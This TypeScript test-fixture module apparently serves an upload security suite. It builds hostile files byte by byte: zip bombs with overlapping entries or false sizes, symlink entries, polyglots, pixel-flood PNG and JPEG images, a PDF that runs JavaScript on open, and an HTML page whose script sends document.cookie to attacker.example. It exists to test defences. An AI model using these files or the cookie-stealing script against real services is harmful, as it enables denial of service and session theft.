import { createDeflateRaw, crc32, deflateRawSync, deflateSync } from 'node:zlib';

/**
 * Hostile files for the upload attack suite (uploads.test.ts), built byte by byte so they can be what no
 * honest tool writes: zips whose sizes lie, whose entries overlap or escape their folder, which hide a web
 * page in their comment or sit behind a PDF; workbooks with macros, external links, DTDs, absurd cell
 * references; images that declare ten billion pixels. Nothing here comes from a library that would refuse
 * to write them.
 */

/** One entry of a zip built here. */
export interface ZipEntry {
  name: string;
  /** The content (deflated here). */
  data?: Buffer;
  /** Content already deflated (raw), with its true size and CRC: how the large bombs are made. */
  packed?: { bytes: Buffer; size: number; crc: number };
  /** The size written in the headers, when it should lie. */
  declaredSize?: number;
  /** Unix file mode in the central directory (0o120777 makes the entry a symbolic link). */
  mode?: number;
}

/** Options for the archive as a whole. */
export interface ZipOptions {
  /** Bytes before the first entry (a PDF or web page in front of the zip). */
  prefix?: Buffer;
  /** The archive comment (where a polyglot hides its other format at the end). */
  comment?: Buffer;
}

/** A zip archive (deflate, no data descriptors), with whatever lies its entries ask for. */
export function zip(entries: ZipEntry[], options: ZipOptions = {}): Buffer {
  const prefix = options.prefix ?? Buffer.alloc(0);
  const locals: Buffer[] = [prefix];
  const centrals: Buffer[] = [];
  let offset = prefix.length;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const data = entry.data ?? Buffer.alloc(0);
    const packed = entry.packed ?? { bytes: deflateRawSync(data), size: data.length, crc: crc32(data) };
    const size = entry.declaredSize ?? packed.size;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // names are UTF-8
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(packed.crc >>> 0, 14);
    local.writeUInt32LE(packed.bytes.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    centrals.push(centralHeader(name, packed.crc, packed.bytes.length, size, offset, entry.mode));
    locals.push(local, name, packed.bytes);
    offset += 30 + name.length + packed.bytes.length;
  }
  return Buffer.concat([
    ...locals,
    ...centrals,
    endOfDirectory(entries.length, centrals, offset, options.comment),
  ]);
}

function centralHeader(
  name: Buffer,
  crc: number,
  compressed: number,
  size: number,
  offset: number,
  mode?: number,
): Buffer {
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  // Version made by: 2.0, on Unix (3) when a file mode is given.
  central.writeUInt16LE(mode === undefined ? 20 : 0x0300 | 20, 4);
  if (mode !== undefined) central.writeUInt32LE((mode << 16) >>> 0, 38);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(0x0800, 8);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc >>> 0, 16);
  central.writeUInt32LE(compressed, 20);
  central.writeUInt32LE(size, 24);
  central.writeUInt16LE(name.length, 28);
  central.writeUInt32LE(offset, 42);
  return Buffer.concat([central, name]);
}

function endOfDirectory(
  count: number,
  centrals: Buffer[],
  offset: number,
  comment: Buffer = Buffer.alloc(0),
): Buffer {
  const size = centrals.reduce((sum, c) => sum + c.length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(size, 12);
  end.writeUInt32LE(offset, 16);
  end.writeUInt16LE(comment.length, 20);
  return Buffer.concat([end, comment]);
}

/**
 * A zip bomb without recursion: one deflated entry of `size` zeros, and `count` central-directory entries
 * that all point at it (each one unpacks to the full size).
 */
export function overlappingZip(count: number, packed: { bytes: Buffer; size: number; crc: number }): Buffer {
  const first = Buffer.from('xl/worksheets/sheet1.xml');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(packed.crc >>> 0, 14);
  local.writeUInt32LE(packed.bytes.length, 18);
  local.writeUInt32LE(packed.size, 22);
  local.writeUInt16LE(first.length, 26);
  const localSize = 30 + first.length + packed.bytes.length;
  const centrals = Array.from({ length: count }, (_, i) =>
    centralHeader(
      Buffer.from(i === 0 ? first.toString() : `xl/worksheets/sheet${i + 1}.xml`),
      packed.crc,
      packed.bytes.length,
      packed.size,
      0,
    ),
  );
  return Buffer.concat([local, first, packed.bytes, ...centrals, endOfDirectory(count, centrals, localSize)]);
}

/**
 * `size` zero bytes, deflated as a stream (never held in memory whole): the payload of a bomb. Zeros
 * deflate about a thousand to one, so 300 MB become about 300 kB.
 */
export async function deflatedZeros(size: number): Promise<{ bytes: Buffer; size: number; crc: number }> {
  const chunk = Buffer.alloc(1024 * 1024);
  const deflate = createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (data: Buffer) => out.push(data));
  const done = new Promise<void>((resolve, reject) => {
    deflate.on('end', resolve);
    deflate.on('error', reject);
  });
  let crc = 0;
  for (let left = size; left > 0; left -= chunk.length) {
    const part = left >= chunk.length ? chunk : chunk.subarray(0, left);
    crc = crc32(part, crc);
    if (!deflate.write(part)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await done;
  return { bytes: Buffer.concat(out), size, crc };
}

const relationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const xml = (text: string) => Buffer.from(text, 'utf8');

/** Options for a workbook built here. */
export interface WorkbookOptions {
  /** The whole worksheet part, instead of one made around `rows`. */
  sheetXml?: Buffer;
  /** More entries (parts) in the package. */
  extra?: ZipEntry[];
  /** More `<Override>`/`<Default>` elements in [Content_Types].xml. */
  contentTypes?: string;
  /** More `<Relationship>` elements in the workbook's relationships. */
  workbookRelationships?: string;
  /** The workbook part's content type (a macro-enabled one, say). */
  workbookType?: string;
  zip?: ZipOptions;
}

/** A cell holding inline text. */
export function cell(ref: string, text: string): string {
  return `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;
}

/** Worksheet XML around the given `<row>` elements. */
export function sheetOf(rows: string): Buffer {
  return xml(
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
      `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`,
  );
}

/** Rows of text cells, first row first, as worksheet `<row>` elements. */
export function rowsOf(grid: string[][]): string {
  return grid
    .map(
      (cells, r) =>
        `<row r="${r + 1}">${cells.map((text, c) => cell(`${String.fromCharCode(65 + c)}${r + 1}`, text)).join('')}</row>`,
    )
    .join('');
}

/** A minimal XLSX workbook (what Excel needs, nothing more) with one sheet. */
export function workbook(grid: string[][], options: WorkbookOptions = {}): Buffer {
  const workbookType =
    options.workbookType ?? 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
  return zip(
    [
      {
        name: '[Content_Types].xml',
        data: xml(
          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
            '<Default Extension="xml" ContentType="application/xml"/>' +
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
            `<Override PartName="/xl/workbook.xml" ContentType="${workbookType}"/>` +
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' +
            `${options.contentTypes ?? ''}</Types>`,
        ),
      },
      {
        name: '_rels/.rels',
        data: xml(
          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
            `<Relationship Id="rId1" Type="${relationships}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
        ),
      },
      {
        name: 'xl/workbook.xml',
        data: xml(
          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
            `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${relationships}">` +
            '<sheets><sheet name="Organisations" sheetId="1" r:id="rId1"/></sheets></workbook>',
        ),
      },
      {
        name: 'xl/_rels/workbook.xml.rels',
        data: xml(
          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
            `<Relationship Id="rId1" Type="${relationships}/worksheet" Target="worksheets/sheet1.xml"/>` +
            `${options.workbookRelationships ?? ''}</Relationships>`,
        ),
      },
      { name: 'xl/worksheets/sheet1.xml', data: options.sheetXml ?? sheetOf(rowsOf(grid)) },
      ...(options.extra ?? []),
    ],
    options.zip,
  );
}

function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'ascii');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}

/**
 * A well-formed PNG (correct CRCs) of `width` × `height` RGB pixels whose image data is `rows` rows of
 * zeros: with a small `rows` and a huge size it is a pixel flood — a few hundred bytes that a decoder turns
 * into width × height × 3 bytes.
 */
export function png(width: number, height: number, rows = height): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 2; // RGB
  const scanlines = Buffer.alloc(Math.min(rows, height) * (1 + width * 3));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(scanlines)),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Width and height a PNG declares, after checking its signature and IHDR CRC (null when malformed). */
export function pngSize(bytes: Buffer): { width: number; height: number } | null {
  if (bytes.length < 33 || bytes.readUInt32BE(0) !== 0x89504e47 || bytes.toString('ascii', 12, 16) !== 'IHDR')
    return null;
  const crc = bytes.readUInt32BE(29);
  if (crc32(bytes.subarray(12, 29)) >>> 0 !== crc) return null;
  return { width: bytes.readUInt32BE(16), height: bytes.readUInt32BE(20) };
}

/** A baseline JPEG header that declares `width` × `height` (the other pixel flood), with no image data. */
export function jpegHeader(width: number, height: number): Buffer {
  const sof = Buffer.from([
    0xff, 0xc0, 0x00, 0x11, 0x08, 0, 0, 0, 0, 0x03, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1,
  ]);
  sof.writeUInt16BE(height, 5);
  sof.writeUInt16BE(width, 7);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), sof, Buffer.from([0xff, 0xd9])]);
}

/** A PDF written entirely in ASCII (so it is valid UTF-8 text) that runs JavaScript when opened. */
export const textPdf = Buffer.from(
  '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n' +
    '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
);

/** A PDF as most tools write it: a binary comment on its second line. */
export const binaryPdf = Buffer.concat([
  Buffer.from('%PDF-1.7\n%'),
  Buffer.from([0xe2, 0xe3, 0xcf, 0xd3]),
  Buffer.from('\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n'),
]);

/** The first 64 bytes of a Linux x86-64 executable. */
export const elf = (() => {
  const head = Buffer.alloc(64);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(head);
  head.writeUInt16LE(2, 16); // executable
  head.writeUInt16LE(0x3e, 18); // x86-64
  return head;
})();

/** A web page with a script that would steal a session if it were ever served back. */
export const htmlWithScript = Buffer.from(
  '<!doctype html><html><head><title>organisations</title></head>' +
    '<body><script>fetch("https://attacker.example/?c=" + document.cookie)</script></body></html>\n',
);

/** An SVG image with a script. */
export const svgWithScript = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script></svg>',
);
